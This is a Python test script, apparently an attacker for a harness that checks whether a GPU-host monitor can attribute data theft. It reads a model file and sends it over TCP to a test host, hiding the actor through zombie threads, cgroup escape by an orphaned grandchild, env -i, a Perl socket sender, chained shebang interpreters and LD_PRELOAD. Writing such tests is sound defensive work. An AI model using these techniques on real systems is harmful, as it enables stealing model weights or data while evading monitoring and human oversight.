"""Who acts is not easily told.

    hidden.py WAY
"""

import os
import shutil
import subprocess
import sys
import threading

import send
import stand

STEAL = "import stand, send; d = stand.read_all(stand.MODEL); stand.say('read', bytes=len(d)); "
STEAL += "stand.say('sent', bytes=send.tcp(d))"
PERL = r"""
use Socket;
open(my $f, '<:raw', $ENV{STAND_MODEL}) or die; local $/; my $d = <$f>; close $f;
socket(my $s, AF_INET, SOCK_STREAM, 0) or die;
connect($s, sockaddr_in(443, inet_aton($ARGV[0]))) or die;
my $n = 0;
while ($n < length $d) { $n += syswrite($s, $d, 1 << 18, $n) or die }
close $s;
printf qq({"act":"sent","pid":%d,"bytes":%d}\n), $$, $n;
"""


def steal() -> None:
    data = stand.read_all(stand.MODEL)
    stand.say("read", bytes=len(data))
    stand.say("sent", bytes=send.tcp(data))


def headless() -> None:
    """The first thread has ended before anything is done."""
    pid = os.fork()
    if pid == 0:
        def act() -> None:
            stand.wait_until(lambda: is_zombie(os.getpid()), "the end of the first thread")
            steal()
            os._exit(0)

        threading.Thread(target=act).start()
        stand.libc.pthread_exit(None)
    _, status = os.waitpid(pid, 0)
    sys.exit(os.waitstatus_to_exitcode(status))


def is_zombie(pid: int) -> bool:
    with open(f"/proc/{pid}/task/{pid}/stat") as file:
        return file.read().rsplit(")", 1)[1].split()[0] == "Z"


def orphan() -> None:
    """A grandchild in a session of its own leaves the cgroup, waits for its parents' end, and
    only then reads and sends."""
    inward, outward = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            with open("/proc/self/cgroup") as file:
                own = next(line[3:].strip() for line in file if line.startswith("0::"))
            assert own.startswith("/gpuwarden/"), own
            mounts = ("/sys/fs/cgroup", "/sys/fs/cgroup/unified")
            mount = next(path for path in mounts if os.path.exists(f"{path}/cgroup.controllers"))
            with open(f"{mount}/cgroup.procs", "w") as file:
                file.write(str(os.getpid()))
            stand.wait_until(lambda: os.getppid() == 1 or is_gone(), "the parents' end")
            steal()
            os.write(outward, b".")
        os._exit(0)
    os.wait()
    os.read(inward, 1)


def is_gone() -> bool:
    """A subreaper took it over."""
    with open(f"/proc/{os.getppid()}/comm") as file:
        return file.read().strip() != "python3"


def bare() -> None:
    """A script that comes over standard input, in an empty environment but for what it needs."""
    needed = {name: os.environ[name] for name in ("PYTHONPATH", "STAND_MODEL", "STAND_ROOM")}
    needed["PYTHONPATH"] += ":" + os.path.dirname(os.path.abspath(__file__))
    environment = [f"{name}={value}" for name, value in needed.items()]
    command = ["env", "-i", *environment, "/usr/bin/python3", "-"]
    subprocess.run(command, input=STEAL.encode(), check=True)


def perl() -> None:
    command = ["/usr/bin/perl", "-e", PERL, stand.FAR]
    if not os.path.exists(command[0]):
        stand.cannot("perl is not installed")
    subprocess.run(command, check=True)


def chained() -> None:
    """Four scripts, each the interpreter of the next."""
    interpreter = "/usr/bin/python3"
    first = os.path.join(stand.ROOM, "level-0")
    with open(first, "w") as file:
        file.write(f"#!{interpreter}\n{STEAL}\n")
    os.chmod(first, 0o755)
    for level in range(1, 4):
        path = os.path.join(stand.ROOM, f"level-{level}")
        with open(path, "w") as file:
            file.write(f"#!{os.path.join(stand.ROOM, f'level-{level - 1}')}\n")
        os.chmod(path, 0o755)
    here = os.path.dirname(os.path.abspath(__file__))
    environment = {**os.environ, "PYTHONPATH": f"{os.environ['PYTHONPATH']}:{here}"}
    subprocess.run([path], check=True, env=environment)


def preloaded() -> None:
    """The program is an honest one; what it loads is not."""
    library = os.path.join(stand.ROOM, "steal.so")
    here = os.path.join(os.path.dirname(os.path.abspath(__file__)), "steal")
    # A machine without a compiler has it made already.
    if os.path.exists(f"{here}.so"):
        shutil.copyfile(f"{here}.so", library)
    else:
        subprocess.run(["cc", "-shared", "-fPIC", "-o", library, f"{here}.c"], check=True)
    environment = {**os.environ, "LD_PRELOAD": library, "STAND_FAR": stand.FAR}
    subprocess.run(["/bin/sleep", "0"], check=True, env=environment)


def main() -> None:
    stand.wait_for_go()
    globals()[sys.argv[1]]()


if __name__ == "__main__":
    main()
